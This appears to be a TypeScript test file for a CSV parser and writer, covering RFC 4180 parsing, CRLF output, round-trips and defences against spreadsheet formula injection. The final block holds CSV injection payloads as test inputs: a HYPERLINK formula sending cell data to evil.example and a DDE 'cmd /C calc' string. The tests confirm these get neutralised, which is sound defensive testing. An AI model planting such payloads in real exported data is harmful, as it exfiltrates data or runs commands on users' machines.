// The reference is RFC 4180 (https://www.rfc-editor.org/rfc/rfc4180, §2 rules 1–7); each
// expected value below is written out by hand from those rules, not produced by the parser.
import { CSV_RECORD_END, CsvSyntaxError, csvField, csvRow, formatCsv, neutraliseFormula, parseCsv, parseCsvRecords } from './csv';

describe('parseCsv (RFC 4180)', () => {
  it('keeps commas, doubled quotes and newlines inside quoted fields (rules 5–7)', () => {
    expect(parseCsv('a,"b, ""c""\nd",e\r\nf,g,h\n')).toEqual([
      ['a', 'b, "c"\nd', 'e'],
      ['f', 'g', 'h'],
    ]);
  });

  it('reads CRLF, LF and a mix of both as record ends, with or without a final one', () => {
    const expected = [
      ['a', 'b'],
      ['c', 'd'],
    ];
    expect(parseCsv('a,b\r\nc,d\r\n')).toEqual(expected);
    expect(parseCsv('a,b\nc,d\n')).toEqual(expected);
    expect(parseCsv('a,b\r\nc,d\n')).toEqual(expected);
    expect(parseCsv('a,b\nc,d')).toEqual(expected);
  });

  it('drops a leading UTF-8 byte-order mark, so the first header name matches', () => {
    expect(parseCsv('\uFEFFsystem,score\nA,1\n')[0]).toEqual(['system', 'score']);
  });

  it('keeps spaces and empty fields as they are, and skips blank lines', () => {
    expect(parseCsv(' a ,,b\n\nc,"",d\n')).toEqual([
      [' a ', '', 'b'],
      ['c', '', 'd'],
    ]);
  });

  it('rejects text after a closing quote ("a"b,c) instead of joining it to "ab"', () => {
    expect(() => parseCsv('"a"b,c\n')).toThrow(CsvSyntaxError);
    expect(() => parseCsv('x,y\n"a"b,c\n')).toThrow(/^line 2: text after a closing quote$/);
  });

  it('rejects a quote inside an unquoted field with its line', () => {
    expect(() => parseCsv('a,b\nx"y,1\n')).toThrow(/^line 2: quote inside an unquoted field$/);
  });

  it('reports an unterminated quote at the line of the record that opened it', () => {
    expect(() => parseCsv('a,b\nc,d\n\n"open,1\nx,y\nz,w\n')).toThrow(/^line 4: unterminated quoted field$/);
    try {
      parseCsv('"open\n');
    } catch (err) {
      expect(err).toBeInstanceOf(CsvSyntaxError);
      expect((err as CsvSyntaxError).line).toBe(1);
    }
  });

  it('gives each record the line it starts on, counting newlines inside quotes', () => {
    const records = parseCsvRecords('h1,h2\r\n"multi\nline",1\n\nB,2\n');
    expect(records).toEqual([
      { fields: ['h1', 'h2'], line: 1 },
      { fields: ['multi\nline', '1'], line: 2 },
      { fields: ['B', '2'], line: 5 },
    ]);
  });
});

describe('formatCsv and csvRow (RFC 4180, CRLF)', () => {
  it('ends every record with CRLF and leaves plain fields unquoted', () => {
    expect(CSV_RECORD_END).toBe('\r\n');
    expect(formatCsv([['a', 'b'], ['c', 'd']])).toBe('a,b\r\nc,d\r\n');
    expect(formatCsv([])).toBe('');
  });

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['crlf\r\nhere', '"crlf\r\nhere"'],
    ['"', '""""'],
    [' a ', ' a '],
    ['', ''],
  ])('writes the field %j as %j', (input, expected) => {
    expect(csvRow([input])).toBe(`${expected}\r\n`);
  });

  it('writes numbers in their shortest round-trip form', () => {
    expect(csvRow([0.1 + 0.2, -0, 1e-7, 100])).toBe('0.30000000000000004,0,1e-7,100\r\n');
  });

  it('reads back what it writes, field for field', () => {
    const records = [
      ['x', ' lead', 'a"b', 'c,d', 'e\nf', 'g\r\nh', ''],
      ['"a"b', '\uFEFF', ',', '""'],
    ];
    expect(parseCsv(formatCsv(records))).toEqual(records);
    expect(records.map((r) => csvRow(r)).join('')).toBe(formatCsv(records));
  });

  // csvRow writes records without quoting or formulas itself (issue #28); csv-stringify through
  // formatCsv is the reference: the same text for every record, plain or not, either option.
  it('writes every record, and every field alone, exactly as formatCsv does (generated fields, both formula options)', () => {
    const pieces = ['a', 'Z9', ' ', ',', '"', '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', "'", '1', '.5', 'e-7', '\uFEFF', 'é', ''];
    let state = 20261128;
    const next = (n: number) => {
      state = (state * 1103515245 + 12345) % 2 ** 31;
      return state % n;
    };
    const field = (): string | number => {
      if (next(5) === 0) return [0, -0, 0.1 + 0.2, -3.25, 1e21, 1e-7, Infinity][next(7)] as number;
      let text = '';
      for (let k = next(4); k >= 0; k--) text += pieces[next(pieces.length)] ?? '';
      return text;
    };
    let plain = 0;
    for (let r = 0; r < 3000; r++) {
      const record = Array.from({ length: 1 + next(6) }, field);
      for (const formulas of ['neutralise', 'keep'] as const) {
        const reference = formatCsv([record], { formulas });
        expect(csvRow(record, { formulas })).toBe(reference);
        expect(record.map((f) => csvField(f, { formulas })).join(',') + CSV_RECORD_END).toBe(reference);
      }
      if (record.every((f) => typeof f === 'number' || !/[",\r\n=+\-@\t]/.test(f))) plain++;
    }
    // Values the types leave out but a caller may still pass at run time: as csv-stringify writes them.
    for (const odd of [[null, 'a'], ['a', undefined], [true, 1]] as unknown as (string | number)[][]) {
      expect(csvRow(odd)).toBe(formatCsv([odd]));
      expect(odd.map((f) => csvField(f)).join(',') + CSV_RECORD_END).toBe(formatCsv([odd]));
    }
    // Both paths were exercised: records needing no work and records that need quoting or a quote mark.
    expect(plain).toBeGreaterThan(100);
    expect(plain).toBeLessThan(2900);
  });
});

// OWASP "CSV Injection": a cell beginning with =, +, -, @, tab or CR is run as a formula by
// Excel, LibreOffice and Google Sheets; the listed mitigation is a leading single quote.
describe('spreadsheet formulas in CSV (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('writes the text %j with a leading quote as %j', (input, expected) => {
    expect(csvRow([input])).toBe(`${expected}\r\n`);
  });

  it.each(['-1.5', '+2', '-3e-7', '.5', 'a=b', ' =x', "'=x"])('leaves %j as it is (a number, or no formula start)', (input) => {
    expect(neutraliseFormula(input)).toBe(input);
  });

  it('writes negative numbers as numbers', () => {
    expect(csvRow([-0.25, -3, 'team'])).toBe('-0.25,-3,team\r\n');
  });

  it("keeps formula-like text exactly when asked to (data files Podium reads back)", () => {
    expect(csvRow(['=1', '-x'], { formulas: 'keep' })).toBe('=1,-x\r\n');
    expect(parseCsv(formatCsv([['=1', '@a']], { formulas: 'keep' }))).toEqual([['=1', '@a']]);
  });
});
